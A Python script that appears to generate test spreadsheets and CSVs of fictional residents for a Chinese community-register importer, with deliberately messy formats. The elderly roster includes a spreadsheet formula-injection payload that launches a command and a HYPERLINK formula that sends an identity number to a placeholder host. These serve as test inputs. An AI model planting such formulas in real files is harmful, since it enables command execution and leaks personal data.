"""Make the five sheets of this folder: as communities keep them, ugly on purpose, of people who do not exist.

    python linli/register/people/tests/sheets/make.py

The identity numbers are made up and pass every check; whatever is wrong in the sheets is wrong on purpose.
The same people stand in several sheets, as they do in real life.
"""

import csv
import io
import random
import sys
from dataclasses import dataclass, replace
from datetime import date, datetime
from pathlib import Path

import xlsxwriter

from linli.lib.citizen_id import check_digit

HERE = Path(__file__).parent
MADE = datetime(2026, 3, 1)
SURNAMES = "王李张刘陈杨黄赵周吴徐孙马朱胡郭何林罗高"
GIVEN = {
    "1": ("建国", "志强", "国平", "海涛", "晓东", "德胜", "文斌", "永明", "家宝", "子轩", "浩然", "振华"),
    "2": ("秀英", "桂兰", "丽华", "玉珍", "雪梅", "小燕", "雅琴", "淑芳", "欣怡", "子涵", "美玲", "春花"),
}
ESTATES = ("莫愁新寓", "水西门小区", "茶亭东街小区", "江东花苑")
DIVISIONS = ("320105", "320102", "320123", "340102", "341125", "321023")
RELATIONS = {"02": "户主", "12": "妻", "11": "丈夫", "22": "长子", "32": "长女", "51": "父亲", "52": "母亲"}


@dataclass(frozen=True)
class Somebody:
    """A person of the sheets."""

    name: str
    sex: str
    born: date
    identity: str
    phone: str
    household: int
    relation: str
    estate: str
    building: int
    entrance: int
    room: int

    @property
    def address(self) -> str:
        """The door in one of the usual forms."""
        return f"{self.estate}{self.building}幢{self.entrance}单元{self.room}室"

    def age(self) -> int:
        """Years on the day the sheets were made."""
        return MADE.year - self.born.year - ((self.born.month, self.born.day) > (MADE.month, MADE.day))


class Town:
    """Makes households, always the same ones."""

    def __init__(self) -> None:
        self.chance = random.Random(320105001001)
        self.used: set[str] = set()
        self.households = [self.household(number) for number in range(1, 17)]
        self.people = [one for members in self.households for one in members]

    def identity(self, born: date, sex: str) -> str:
        """A valid number of nobody."""
        while True:
            last = self.chance.choice(("991", "993") if sex == "1" else ("990", "992"))
            first = f"{self.chance.choice(DIVISIONS)}{born:%Y%m%d}{last}"
            number = first + check_digit(first)
            if number not in self.used:
                self.used.add(number)
                return number
            born = born.replace(day=born.day % 28 + 1)

    def somebody(self, sex: str, year: int, **given: object) -> Somebody:
        """A person born in a year."""
        born = date(year, self.chance.randint(1, 12), self.chance.randint(1, 28))
        name = self.chance.choice(SURNAMES) + self.chance.choice(GIVEN[sex])
        values: dict = {
            "name": name, "sex": sex, "born": born, "identity": self.identity(born, sex), "relation": "02",
            "phone": f"1{self.chance.choice('3589')}9{self.chance.randint(0, 99999999):08}", "household": 0,
            "estate": self.chance.choice(ESTATES), "building": self.chance.randint(1, 12),
            "entrance": self.chance.randint(1, 3), "room": self.chance.randint(1, 6) * 100 + self.chance.randint(1, 4),
        }  # fmt: skip
        born_of = date(int(values["identity"][6:10]), int(values["identity"][10:12]), int(values["identity"][12:14]))
        return Somebody(**{**values, "born": born_of, **given})

    def household(self, number: int) -> list[Somebody]:
        """A head with husband or wife, a child and sometimes a parent."""
        year = self.chance.randint(1945, 1985)
        sex = self.chance.choice("112")
        head = self.somebody(sex, year, household=number)
        home = {key: getattr(head, key) for key in ("household", "estate", "building", "entrance", "room")}
        members = [head]
        if self.chance.random() < 0.8:
            other = "2" if sex == "1" else "1"
            members.append(self.somebody(other, year + 2, relation="12" if other == "2" else "11", **home))
        if self.chance.random() < 0.7:
            child = self.chance.choice("12")
            one = self.somebody(child, year + 27, relation="22" if child == "1" else "32", **home)
            members.append(replace(one, name=head.name[0] + one.name[1:]))
        if year > 1960 and self.chance.random() < 0.5:
            members.append(self.somebody("2", year - 26, relation="52", **home))
        return members


def wide(text: str) -> str:
    """Digits in full width, as typed with a Chinese keyboard."""
    return text.translate({ord(digit): ord(digit) + 0xFEE0 for digit in "0123456789"})


def book(path: Path) -> xlsxwriter.Workbook:
    """A workbook that is the same each time it is made."""
    made = xlsxwriter.Workbook(str(path))
    made.set_properties({"created": MADE})
    return made


def households(town: Town, path: Path) -> None:
    """户籍底册: titles, a merged header of two rows, households as merged blocks, a total."""
    made = book(path)
    sheet = made.add_worksheet("户籍底册")
    day = made.add_format({"num_format": "yyyy/m/d"})
    sheet.merge_range("A1:N1", "建邺区莫愁湖街道莫愁湖社区户籍人口底册")
    sheet.merge_range("A2:N2", "填报单位：莫愁湖社区居民委员会（盖章）        填报日期：2026年3月1日")
    for column, name in {0: "序号", 1: "户号", 2: "户主姓名", 3: "姓  名", 4: "与户主\n关系", 5: "性别",
                         6: "公民身份号码*", 7: "出生年月日", 8: "民族", 13: "备注"}.items():  # fmt: skip
        sheet.merge_range(2, column, 3, column, name)
    sheet.merge_range(2, 9, 2, 10, "住址")
    sheet.merge_range(2, 11, 2, 12, "基本情况")
    for column, name in {9: "现居住地址", 10: "户籍地址", 11: "婚姻状况", 12: "文化程度"}.items():
        sheet.write_string(3, column, name)
    row, serial = 4, 0
    for members in town.households:
        last = row + len(members) - 1
        for column, text in ((1, f"HJ{members[0].household:03}"), (2, members[0].name), (9, members[0].address)):
            if last > row:
                sheet.merge_range(row, column, last, column, text)
            else:
                sheet.write_string(row, column, text)
        for one in members:
            serial += 1
            married = "已婚" if one.relation in ("02", "11", "12") else "未婚" if one.age() < 30 else "20"
            sheet.write_number(row, 0, serial)
            sheet.write_string(row, 3, f"{one.name[0]} {one.name[1:]}" if len(one.name) == 2 else one.name)
            sheet.write_string(row, 4, RELATIONS[one.relation])
            sheet.write_string(row, 5, "男" if one.sex == "1" else "女")
            sheet.write_string(row, 6, one.identity)
            sheet.write_datetime(row, 7, datetime(one.born.year, one.born.month, one.born.day), day)
            sheet.write_string(row, 8, "汉" if serial % 11 else "回族")
            sheet.write_string(row, 10, f"南京市建邺区{one.address}")
            sheet.write_string(row, 11, married)
            sheet.write_string(row, 12, ("本科", "初中", "高中", "大专", "小学")[serial % 5])
            row += 1
        if members[0].household == 9:
            row += 1  # a blank row that somebody left
    sheet.write_string(row, 0, "合  计")
    sheet.write_string(row, 3, f"{len(town.households)}户{serial}人")
    sheet.merge_range(row + 1, 0, row + 1, 13, "填表人：王某        审核人：        联系电话：")
    for empty in range(row + 2, row + 400):
        sheet.set_row(empty, None, day)
    made.close()


def floating(town: Town, path: Path) -> None:
    """流动人口登记: a CSV in GB18030 with semicolons, days and phones in every form."""
    days = ("{0.year}-{0.month:02}-{0.day:02}", "{0.year}/{0.month}/{0.day}", "{0.year}.{0.month}.{0.day}",
            "{0.year}年{0.month}月{0.day}日", "{0.year}{0.month:02}{0.day:02}")  # fmt: skip
    phones = ("{0}", "{1} {2} {3}", "+86 {0}", "{1}-{2}-{3}", "86{0}")
    out = io.StringIO(newline="")
    rows = csv.writer(out, delimiter=";", lineterminator="\r\n")
    rows.writerow(["序号", "姓名", "性别", "身份证件号码", "出生日期", "联系方式", "户籍所在地", "暂住地址", "流入原因",
                   "来宁日期", "房东；电话", "备注"])  # fmt: skip
    for number in range(1, 41):
        one = town.somebody("12"[number % 2], 1965 + number)
        phone = phones[number % 5].format(one.phone, one.phone[:3], one.phone[3:7], one.phone[7:])
        came = date(2023 + number % 3, number % 12 + 1, number % 28 + 1)
        born = days[number % 5].format(one.born)
        sex = "男" if one.sex == "1" else "女"
        identity = wide(one.identity) if number % 7 == 0 else one.identity
        if number == 13:
            identity = identity[:-1] + str((int(identity[-1]) + 1) % 10 if identity[-1] != "X" else 0)
        if number == 17:
            born = str((one.born - date(1899, 12, 30)).days)
        if number == 20:
            born = f"{one.born.year}年{one.born.month}月"
        door = f"{one.estate}{wide(str(one.building))}栋{one.room}" if number % 4 == 0 else one.address
        rows.writerow([
            number, f"{one.name}　" if number % 6 == 0 else one.name, sex if number % 9 else "",
            f'="{identity}"' if number % 8 == 0 else identity, born, wide(phone) if number % 10 == 0 else phone,
            ("安徽省来安县", "江苏省扬州市", "安徽合肥")[number % 3], door,
            ("务工", "经商", "随迁", "01", "投亲")[number % 5], days[(number + 2) % 5].format(came), "",
            "租户;\n合租" if number == 5 else "",
        ])  # fmt: skip
    path.write_bytes(out.getvalue().encode("gb18030"))


def benefits(town: Town, path: Path) -> None:
    """低保残疾台账: codes and words mixed, ticks, numbers that Excel rounded, the same person twice, a hidden sheet."""
    made = book(path)
    sheet = made.add_worksheet("台账")
    head = ("编号", "对象姓名", "身份证号码", "性别", "联系电话", "家庭住址", "是否低保", "低保类别", "残疾类别",
            "残疾等级", "独居", "党员", "退役军人", "特殊类别", "政治面貌", "备注")  # fmt: skip
    sheet.write_row(0, 0, head)
    chosen = [one for one in town.people if one.age() > 30][:24]
    chosen += [town.somebody("12"[number % 2], 1940 + number * 2) for number in range(10)]
    chosen += [chosen[2], chosen[7]]
    for row, one in enumerate(chosen, 1):
        sheet.write_number(row, 0, row)
        sheet.write_string(row, 1, one.name)
        if row % 6 == 0 and not one.identity.endswith("X"):
            sheet.write_number(row, 2, float(one.identity))
        else:
            sheet.write_string(row, 2, one.identity)
        sheet.write_string(row, 3, ("1", "男")[row % 2] if one.sex == "1" else ("2", "女")[row % 2])
        sheet.write_number(row, 4, int(one.phone))
        sheet.write_string(row, 5, one.address)
        sheet.write(row, 6, ("√", "是", 1, "否", "", "×")[row % 6])
        sheet.write_string(row, 7, ("全额", "差额", "", "", "", "")[row % 6])
        sheet.write_string(row, 8, ("肢体", "4", "", "视力残疾", "", "")[row % 6])
        sheet.write_string(row, 9, ("二级", "3", "", "一级", "", "")[row % 6])
        sheet.write_string(row, 10, "√" if row % 5 == 0 else "")
        sheet.write_string(row, 11, "1" if row % 7 == 0 else "0")
        sheet.write_boolean(row, 12, row % 9 == 0)
        sheet.write_string(row, 13, ("特困、残疾二级", "", "低保/高龄", "优抚对象", "")[row % 5])
        sheet.write_string(row, 14, ("群众", "中共党员", "13", "共青团员")[row % 4])
        if row == 10:
            sheet.write_formula(row, 15, "=VLOOKUP(A1,旧表!A:B,2,0)", None, "#REF!")
    old = made.add_worksheet("旧表")
    old.write_row(0, 0, ("姓名", "身份证号码"))
    old.write_row(1, 0, (chosen[0].name, chosen[0].identity))
    old.hide()
    made.close()


def rounds(town: Town, path: Path) -> None:
    """网格员摸排表: UTF-8 with a mark, addresses in columns, numbers missing, namesakes, nicknames, a typo."""
    out = io.StringIO(newline="")
    rows = csv.writer(out, lineterminator="\n")
    rows.writerow(["莫愁湖社区第一网格摸排表", *[""] * 11])
    rows.writerow(
        [
            "序号",
            "小区",
            "楼栋",
            "单元",
            "房号",
            "姓名",
            "身份证",
            "手机",
            "人户一致",
            "人口性质",
            "所属网格",
            "摸排情况",
        ]
    )
    chosen = [*town.people[5:30], *(town.somebody("12"[number % 2], 1950 + number) for number in range(12))]
    namesake = town.somebody("1", 1971, estate="莫愁新寓", building=2, entrance=1, room=101)
    other = replace(town.somebody("1", 1994, estate="江东花苑", building=9, entrance=2, room=502), name=namesake.name)
    typo = replace(chosen[4], name=chosen[4].name[:-1] + "妹")
    chosen += [namesake, other, typo, replace(chosen[9], name=f"老{chosen[9].name[0]}", identity="")]
    for number, one in enumerate(chosen, 1):
        identity = "" if number % 4 == 0 else one.identity.lower() if number % 5 == 0 else one.identity
        rows.writerow([
            number, one.estate, f"{one.building}{('栋', '幢', '号楼', '')[number % 4]}", one.entrance, one.room,
            one.name, identity, one.phone if number % 3 else "", ("一致", "人在户不在", "1", "")[number % 4],
            ("户籍", "流动", "人户分离", "常住")[number % 4], "第一网格",
            "家中无人, 邻居\n“代述”" if number == 6 else "",
        ])  # fmt: skip
    rows.writerow(["小计", *[""] * 4, f"{len(chosen)}人", *[""] * 6])
    path.write_bytes(b"\xef\xbb\xbf" + out.getvalue().encode())


def elders(town: Town, path: Path) -> None:
    """老年人花名册: the header again every 20 rows, ages for birthdays, formulas, injections, notes at the end."""
    made = book(path)
    sheet = made.add_worksheet("花名册")
    head = (
        "序号",
        "老人姓名",
        "性别",
        "年龄",
        "身份证号",
        "住址",
        "联系人",
        "联系人电话",
        "是否独居",
        "失能情况",
        "备注说明",
    )
    chosen = [one for one in town.people if one.age() >= 60]
    chosen += [town.somebody("12"[number % 2], 1930 + number) for number in range(45 - len(chosen))]
    sheet.merge_range(0, 0, 0, 10, "六十周岁以上老年人花名册（2026年）")
    row = 1
    for number, one in enumerate(chosen, 1):
        if number % 20 == 1:
            sheet.write_row(row, 0, head)
            row += 1
        ending = (" ", "", "\u3000", "")[number % 4]
        name = one.name
        if number == 11:
            name = "+cmd|' /C calc'!A0"
        sheet.write_formula(row, 0, f"=ROW()-{row + 1 - number}", None, number)
        if number == 8:
            sheet.write_formula(row, 1, f'=HYPERLINK("http://example.invalid/?"&E{row + 1},"{name}")', None, name)
        elif number == 9:
            sheet.write_string(row, 1, f'=HYPERLINK("http://example.invalid","{name}")')
        else:
            sheet.write_string(row, 1, name)
        sheet.write_string(row, 2, "男" if one.sex == "1" else "女")
        sheet.write_formula(row, 3, f"=2026-MID(E{row + 1},7,4)", None, one.age())
        sheet.write_string(row, 4, one.identity.lower() + ending)
        sheet.write_string(row, 5, one.address.replace("幢", "-").replace("单元", "-"))
        sheet.write_string(row, 6, ("儿子", "女儿", "社区", "")[number % 4])
        sheet.write_string(row, 7, one.phone if number % 4 else "")
        sheet.write_string(row, 8, ("是", "否", "")[number % 3])
        sheet.write_string(row, 9, ("", "轻度", "", "重度", "")[number % 5])
        row += 1
    sheet.write_string(row, 0, "总计")
    sheet.write_formula(row, 1, f"=COUNTA(B3:B{row})", None, len(chosen))
    sheet.write_string(row + 2, 0, "注：1.年龄为周岁；2.独居指无子女同住。")
    sheet.write_string(row + 3, 0, "填表人：")
    sheet.write_string(row + 3, 5, "审核：")
    made.close()


def make(folder: Path) -> None:
    """Write all five into a folder."""
    for name, write in SHEETS.items():
        write(Town(), folder / name)


SHEETS = {
    "户籍底册.xlsx": households,
    "流动人口登记.csv": floating,
    "低保残疾台账.xlsx": benefits,
    "网格员摸排表.csv": rounds,
    "老年人花名册.xlsx": elders,
}

if __name__ == "__main__":
    make(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
